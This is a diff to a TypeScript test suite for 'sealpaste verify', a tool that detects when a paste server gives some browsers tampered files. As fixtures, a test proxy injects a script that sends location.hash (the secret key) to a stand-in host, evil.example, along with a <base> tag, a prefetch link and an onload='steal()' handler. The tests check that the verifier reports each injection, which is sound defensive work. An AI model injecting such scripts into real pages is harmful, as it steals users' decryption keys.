@@ -2,16 +2,17 @@
 import { createHash } from 'node:crypto';
 import { once } from 'node:events';
 import { readFileSync, writeFileSync } from 'node:fs';
-import { createServer, type IncomingHttpHeaders } from 'node:http';
+import { Agent, createServer, type IncomingHttpHeaders, request } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
-import { brotliCompressSync } from 'node:zlib';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { createTestDatabase, type TestDatabase } from '#lib/db/testing/test-database';
 import type { Manifest } from '../../cli/manifest';
 import { rootDir } from '../../scripts/source-hash.mjs';
+import { createPaste } from '../support/api';
 import { type Client, newClient, type Run } from '../support/client';
 import { startWeb, testEnvironment, type WebProcess } from '../support/processes';
+import { createSealed } from '../support/sealed';
 
 const MANIFEST = '/.well-known/sealpaste-manifest.json';
 
@@ -39,20 +40,27 @@ const said = ({ code, stdout, stderr }: Run) => ({ code, stdout: stdout.toString
 const verify = async (...args: string[]) => said(await client.run(['verify', ...args]));
 const manifest = () => JSON.parse(readFileSync(join(rootDir, '.next/manifest.json'), 'utf8')) as Manifest;
 
-/** A host between the client and the real one, which changes bodies as a browser reads them. */
-async function startHostile(change: (path: string, body: Buffer, headers: IncomingHttpHeaders) => Buffer): Promise<string> {
-  const server = createServer(async ({ url = '', headers }, outgoing) => {
-    const asked = Object.fromEntries(Object.entries(headers).map(([name, value]) => [name, String(value)]));
-    const response = await fetch(web.url + url, { headers: { ...asked, connection: 'close', 'accept-encoding': 'identity' } });
-    const right = Buffer.from(await response.arrayBuffer());
-    const body = change(url, right, headers);
-    const isCompressed = response.status === 200 && String(headers['accept-encoding']).includes('br');
-    const { 'content-length': _, ...sent } = Object.fromEntries(response.headers);
-    outgoing.writeHead(response.status, { ...sent, ...(isCompressed ? { 'content-encoding': 'br' } : {}) });
-    outgoing.end(isCompressed ? brotliCompressSync(body, { params: { 1: 1 } }) : body);
+type Change = (body: Buffer, headers: IncomingHttpHeaders) => Buffer;
+
+/** A host between the client and the real one, which changes what some addresses respond. @param seen gets each request */
+async function startHostile(changes: Record<string, Change>, seen: string[] = []): Promise<string> {
+  const agent = new Agent({ keepAlive: true });
+  const server = createServer((incoming, outgoing) => {
+    const { url = '', headers } = incoming;
+    seen.push(`${url} ${JSON.stringify(headers)}`);
+    const change = changes[url];
+    const encoding = change ? { 'accept-encoding': 'identity' } : {};
+    const upstream = request(web.url + url, { agent, headers: { ...headers, ...encoding } }, async (response) => {
+      if (!change) return void response.pipe(outgoing.writeHead(response.statusCode ?? 0, response.headers));
+      const body = change(Buffer.concat(await response.toArray()), headers);
+      const { 'content-length': _, ...sent } = response.headers;
+      outgoing.writeHead(response.statusCode ?? 0, sent).end(body);
+    });
+    upstream.end();
   }).listen(0, '127.0.0.1');
   await once(server, 'listening');
   cleanUp.push(() => {
+    agent.destroy();
     server.closeAllConnections();
     server.close();
   });
@@ -88,7 +96,7 @@ describe('sealpaste verify', () => {
   it('finds no difference at a right host', async () => {
     const { code, stdout, stderr } = await verify(web.url);
     expect([code, stderr]).toEqual([0, '']);
-    expect(stdout).toMatch(/says it is version \d\S+, build [0-9a-f]{12}\.\n.*\nThe same for 6 kinds of visitors: \d{3} files/);
+    expect(stdout).toMatch(/says it is version \d\S+, build [0-9a-f]{12}\.\n.*\nThe same for 6 kinds of visitors: \d{3} files, pages \//);
   });
 
   it('takes the manifest of a file, and no other build’s', async () => {
@@ -107,22 +115,74 @@ describe('sealpaste verify', () => {
 
   it('finds a script that one browser gets changed, and a manifest that hides it', async () => {
     const path = Object.keys(manifest().files).find((name) => /chunks\/.*\.js$/.test(name)) ?? '';
-    const evil = Buffer.from('\nfetch("/x?" + location.hash)');
-    const change = (url: string, body: Buffer, headers: IncomingHttpHeaders) =>
-      url === path && /Firefox/.test(headers['user-agent'] ?? '') ? Buffer.concat([body, evil]) : body;
-    const { code, stdout } = await verify(await startHostile(change));
+    const script: Change = (body, headers) =>
+      /Firefox/.test(headers['user-agent'] ?? '') ? Buffer.concat([body, Buffer.from('\nfetch("/x?" + location.hash)')]) : body;
+    const { code, stdout } = await verify(await startHostile({ [path]: script }));
     expect([code, stdout.match(/^differs: .*$/gm)]).toEqual([1, [`differs: ${path}: other bytes (Firefox)`]]);
 
-    const hiding = await startHostile((url, body, headers) => {
-      if (url !== MANIFEST) return change(url, body, headers);
-      const claimed = JSON.parse(body.toString()) as Manifest;
-      Object.assign(claimed.files[path] ?? {}, { sha256: 'f'.repeat(64) });
-      return Buffer.from(JSON.stringify(claimed));
+    const hiding = await startHostile({
+      [path]: script,
+      [MANIFEST](body) {
+        const claimed = JSON.parse(body.toString()) as Manifest;
+        Object.assign(claimed.files[path] ?? {}, { sha256: 'f'.repeat(64) });
+        return Buffer.from(JSON.stringify(claimed));
+      },
     });
     const hidden = await verify(hiding);
     expect([hidden.code, hidden.stdout.match(/^differs: .*$/gm)]).toEqual([
       1,
       [`differs: ${MANIFEST}: another manifest`, `differs: ${path}: other bytes (Firefox)`],
     ]);
+  });
+});
+
+describe('the page of a link', () => {
+  it('is the file of the version, and its key is not sent', async () => {
+    const { path, key } = await createSealed(web.url, { content: 'text' });
+    const [page = ''] = path.split('#');
+    const seen: string[] = [];
+    const host = await startHostile({}, seen);
+    const { code, stdout, stderr } = said(await client.run(['verify', host, '--link', '-'], { input: host + path }));
+    expect([code, stderr]).toEqual([0, '']);
+    expect(stdout).toContain(` ${page}`);
+    expect(seen.join('\n')).toContain(page);
+    expect(seen.join('\n')).not.toContain(key);
+  });
+
+  it('is found when Chromium gets another one, with a line for each thing that was added', async () => {
+    const { path } = await createSealed(web.url, { content: 'text' });
+    const [page = ''] = path.split('#');
+    const host = await startHostile({
+      [page](body, headers) {
+        if (!headers['sec-ch-ua']) return body;
+        const changed = body
+          .toString()
+          .replace('<head>', '<head><base href="https://evil.example/"><link rel="prefetch" href="https://evil.example/a">')
+          .replace('</head>', '<script>fetch("https://evil.example/" + location.hash)</script></head>')
+          .replace('<body', '<body onload="steal()"');
+        return Buffer.from(changed);
+      },
+    });
+    const { code, stdout } = await verify(host, '--link', host + path);
+    const found = stdout.match(/^differs: .*Chromium, .*$/gm)?.map((line) => line.replace(/^differs: \S+: (.*) \(.*$/, '$1'));
+    expect([code, found?.sort()]).toEqual([
+      1,
+      [
+        'a <base>',
+        'a <link> to https://evil.example/a',
+        'a script inside it is not of this version',
+        'an event handler onload',
+        'other bytes',
+      ],
+    ]);
+    expect(stdout).not.toMatch(/Firefox|curl/);
+  });
+
+  it('of a paste that the server encrypts is rendered there, and so differs', async () => {
+    const { publicId } = await createPaste(web.url, { content: 'text' });
+    expect(await verify(web.url, '--link', `${web.url}/view/${publicId}`)).toMatchObject({
+      code: 1,
+      stdout: expect.stringMatching(/other bytes/),
+    });
   });
 });
